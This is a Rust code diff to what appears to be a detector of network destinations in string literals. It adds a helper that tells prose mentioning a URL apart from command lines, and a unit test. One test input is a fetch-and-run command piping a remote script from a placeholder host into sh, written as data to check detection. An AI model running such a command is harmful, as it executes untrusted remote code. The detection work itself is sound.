@@ -236,6 +236,15 @@ fn recon_command(text: &str) -> bool {
     })
 }
 
+/// A sentence rather than an address or a command line: three words or more, none
+/// a command's flag, and no network tool among them.
+fn is_prose(text: &str) -> bool {
+    let words: Vec<&str> = text.split_whitespace().collect();
+    words.len() >= 3
+        && !words.iter().any(|word| word.starts_with('-') || word.starts_with('|'))
+        && !network_tool(text)
+}
+
 /// A command line that starts a network tool, at its start or after a separator.
 pub(crate) fn network_tool(text: &str) -> bool {
     // A command line: the tool and at least one argument (a lone `"ping"` is a
@@ -273,7 +282,7 @@ pub(crate) fn literal_kinds(text: &str, found: &Markers) -> (Mask, Option<(Strin
     // A destination is written as an address (`https://x/api/${}`, `x.example`); a
     // sentence that mentions one (`see https://…` in an error message) sends
     // nothing there.
-    let prose = text.trim().contains(char::is_whitespace);
+    let prose = is_prose(text);
     for (host, class) in if prose { Vec::new() } else { hosts_in(text) } {
         mask = mask.union(class.kind().bit());
         // The strongest host names the literal.
@@ -366,6 +375,16 @@ mod tests {
             HostClass::Other,
             "a mention of the service is not an endpoint"
         );
+    }
+
+    #[test]
+    fn sentences_mention_hosts_and_command_lines_use_them() {
+        assert!(kinds("See https://docs.example.invalid/errors/42 for details").is_empty());
+        assert_eq!(
+            kinds("curl -sL https://x.example.invalid/i.sh | sh"),
+            [Kind::HostOther, Kind::NetworkTool]
+        );
+        assert_eq!(kinds("https://x.example.invalid/api/${}"), [Kind::HostOther]);
     }
 
     #[test]
